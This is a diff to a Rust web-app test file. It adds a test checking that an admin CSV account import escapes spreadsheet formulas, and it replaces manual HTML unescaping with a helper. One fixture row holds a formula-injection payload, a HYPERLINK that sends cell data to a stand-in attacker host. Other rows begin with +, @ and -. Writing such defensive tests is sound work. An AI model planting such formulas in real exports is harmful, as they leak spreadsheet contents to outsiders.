@@ -20,13 +20,7 @@ fn confirm_fields(page: &TestResponse, format: &'static str) -> (String, &'stati
         + "<textarea name=\"csv\" hidden>".len();
     let end = page.body[start..].find("</textarea>").unwrap();
     let html = &page.body[start..start + end];
-    let text = html
-        .replace("&lt;", "<")
-        .replace("&gt;", ">")
-        .replace("&quot;", "\"")
-        .replace("&#x27;", "'")
-        .replace("&#39;", "'")
-        .replace("&amp;", "&");
+    let text = gctcp_testkit::html::unescape(html);
     (text, format)
 }
 
@@ -254,3 +248,52 @@ dual!(
             .is_none());
     }
 );
+
+dual!(the_links_spreadsheet_cannot_carry_a_formula, |app| {
+    let admin = app.admin().await;
+    let mut c = app.signed_in(&admin).await;
+    c.get("/admin/accounts/import").await;
+    let file = "email,name,organization\n\
+            f.one@un.org,\"=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Open\"\")\",UNODC\n\
+            f.two@un.org,+1 Plus,UNODC\n\
+            f.three@un.org,@SUM(9),UNODC\n\
+            f.four@un.org,-2+3,UNODC\n\
+            f.five@un.org,Plain Name,UNODC\n";
+    let preview = c
+        .post_multipart(
+            "/admin/accounts/import",
+            &[("file", Some("formulas.csv"), file.as_bytes())],
+        )
+        .await;
+    preview.assert_contains("5 to invite");
+    let (csv, _) = confirm_fields(&preview, "csv");
+    let res = c
+        .post(
+            "/admin/accounts/import/confirm",
+            &[("csv", &csv), ("format", "csv")],
+        )
+        .await;
+    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
+    assert!(res.header("content-type").unwrap().starts_with("text/csv"));
+    // Read back as a spreadsheet would: no cell may begin a formula.
+    let body = res.body.trim_start_matches('\u{feff}');
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 5, "{body}");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a formula reaches the spreadsheet: {cell:?}"
+            );
+        }
+    }
+    let names: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
+    assert!(
+        names.contains(&"'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")"),
+        "{names:?}"
+    );
+    assert!(names.contains(&"'+1 Plus"), "{names:?}");
+    assert!(names.contains(&"'@SUM(9)"), "{names:?}");
+    assert!(names.contains(&"Plain Name"), "{names:?}");
+});
